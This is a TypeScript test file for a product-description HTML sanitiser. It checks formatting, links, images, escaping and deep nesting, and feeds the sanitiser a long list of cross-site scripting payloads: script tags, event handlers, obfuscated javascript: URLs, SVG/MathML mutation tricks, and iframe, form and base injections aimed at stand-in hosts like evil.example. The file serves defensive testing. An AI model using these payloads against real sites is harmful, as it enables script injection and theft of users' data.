// Descriptions: what formatting survives, and that nothing that could run does.

import { describe, expect, it } from 'vitest'
import { sanitizeDescription } from '../../../src/features/products/sanitize.ts'

// The checker below knows nothing of the sanitiser: it reads its output as a browser's tokeniser would. Text and
// attribute values have their angle brackets escaped, so every "<" must open a tag of this exact form.
const TAG = /<(\/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)( \/)?>/g
const TAGS = new Set(
  'h1 h2 h3 h4 h5 h6 p div span br hr blockquote pre code b strong i em u s del ins mark small sub sup abbr cite q kbd wbr ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td a img figure figcaption'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(
  'href rel title src alt width height start span colspan rowspan scope lang dir'.split(' '),
)
const LINK = /^(?:https?:\/\/|mailto:|tel:|\/?(?![/\\])[^:]*$)/i
const PICTURE = /^(?:https:\/\/|\/?(?![/\\])[^:]*$)/i

const decode = (text: string): string =>
  text.replaceAll('&quot;', '"').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')

/** What in the output could do harm; empty when it is harmless. */
function dangers(html: string): string[] {
  const found: string[] = []
  for (const [, , name = '', attributes = ''] of html.matchAll(TAG)) {
    if (!TAGS.has(name)) found.push(`tag ${name}`)
    for (const [, key = '', value = ''] of attributes.matchAll(/([a-z]+)="([^"]*)"/g)) {
      if (!ATTRIBUTES.has(key)) found.push(`attribute ${key}`)
      // Browsers skip control characters and blanks in a scheme.
      const url = decode(value).replace(/[\0-\x20]/g, '')
      if (key === 'href' && !LINK.test(url)) found.push(`href ${url}`)
      if (key === 'src' && !PICTURE.test(url)) found.push(`src ${url}`)
    }
  }
  const rest = html.replace(TAG, '')
  if (/[<>]/.test(rest)) found.push(`markup ${rest}`)
  return found
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\n=\n"alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="http://tracker.example/pixel.gif">',
  '<img src="//tracker.example/pixel.gif">',
  '<img src="\\\\tracker.example\\pixel.gif">',
  '<img src=x srcset="https://evil.example/x 1x">',
  '<img alt="`><img src=x onerror=alert(1)>`">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_blank" style="position:fixed;inset:0">x</a>',
  '<a href="x" xlink:href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input name=card><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<style><script>alert(1)</script></style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p class="checkout-button" id="total">x</p>',
  '<div onmouseover="alert(1)" onpointerenter=alert(1)>x</div>',
  '<body onload=alert(1)>x</body>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea><script>alert(1)</script></textarea>',
  '<textarea>&lt;script&gt;alert(1)&lt;/script&gt;</textarea>',
  '<select><option>&lt;script&gt;alert(1)&lt;/script&gt;</option></select>',
  '<xmp><script>alert(1)</script></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<template><img src=x onerror=alert(1)></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)>">-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<abbr title="&quot; onmouseover=alert(1) x=&quot;">x</abbr>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p lang="x" dir="y" onclick>x</p>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<a href="https://ok.example/" ping="https://evil.example">x</a>',
  '<img src=x is=x-evil><p slot=x part=y>x',
  '\u003cimg src=x onerror=alert(1)//',
]

describe('sanitizeDescription', () => {
  it.each(ATTACKS)('leaves nothing that runs of %s', attack => {
    const clean = sanitizeDescription(attack)
    expect(dangers(clean)).toEqual([])
    expect(sanitizeDescription(clean)).toBe(clean)
    // The same inside something that is allowed, and cut off in the middle.
    expect(dangers(sanitizeDescription(`<ul><li><b>${attack}</b></li></ul>`))).toEqual([])
    for (let end = 1; end < attack.length; end += 3) {
      expect(dangers(sanitizeDescription(`${attack.slice(0, end)}<p>x</p>`))).toEqual([])
    }
  })

  it('has a checker that sees dangers', () => {
    const bad = [
      '<script>',
      '<p onclick="x">',
      '<a href="javascript:x">',
      '<img src="http://x/">',
      '<a href="//x">',
      '<p',
    ]
    expect(bad.map(html => dangers(html).length)).toEqual(bad.map(() => 1))
  })

  it('keeps formatting, lists and tables', () => {
    const html =
      '<h2>Care</h2><p><strong>Wash</strong> at <em>30°</em>.<br />Line dry.</p><ul><li>Linen</li></ul><table><thead><tr><th scope="col">Size</th></tr></thead><tbody><tr><td colspan="2">M</td></tr></tbody></table>'
    expect(sanitizeDescription(html)).toBe(html)
  })

  it('keeps pictures from https and from the shop itself, without their size tricks', () => {
    expect(
      sanitizeDescription(
        '<img src="https://a.example/x.jpg" alt="Cup" width="20" loading="eager" style="x">',
      ),
    ).toBe('<img src="https://a.example/x.jpg" alt="Cup" width="20" />')
    expect(sanitizeDescription('<img src="/images/x.svg" alt="Cup">')).toBe(
      '<img src="/images/x.svg" alt="Cup" />',
    )
    expect(sanitizeDescription('<p>a<img src="data:x" alt="b">c</p>')).toBe('<p>ac</p>')
  })

  it('gives every link a rel of its own', () => {
    const rel = 'rel="nofollow noopener noreferrer"'
    expect(sanitizeDescription('<a href="https://a.example" rel="opener" target="_blank">x</a>')).toBe(
      `<a href="https://a.example" ${rel}>x</a>`,
    )
    expect(sanitizeDescription('<a href="/size-guide">x</a>')).toBe(`<a href="/size-guide" ${rel}>x</a>`)
    expect(sanitizeDescription('<a href="mailto:a@a.example">x</a>')).toBe(
      `<a href="mailto:a@a.example" ${rel}>x</a>`,
    )
  })

  it('keeps plain text as it is, but for what HTML must escape', () => {
    expect(sanitizeDescription(' Length 12" & "up", 2 < 3 ')).toBe('Length 12" &amp; "up", 2 &lt; 3')
    expect(sanitizeDescription('Crème &amp; brûlée &#8211; 2 &euro;')).toBe('Crème &amp; brûlée – 2 €')
    expect(sanitizeDescription('')).toBe('')
  })

  it('survives absurd nesting', () => {
    const deep = `${'<div>'.repeat(5000)}x${'</div>'.repeat(5000)}`
    expect(sanitizeDescription(deep).match(/<div>/g)).toHaveLength(40)
    expect(dangers(sanitizeDescription('<'.repeat(20_000)))).toEqual([])
  })
})
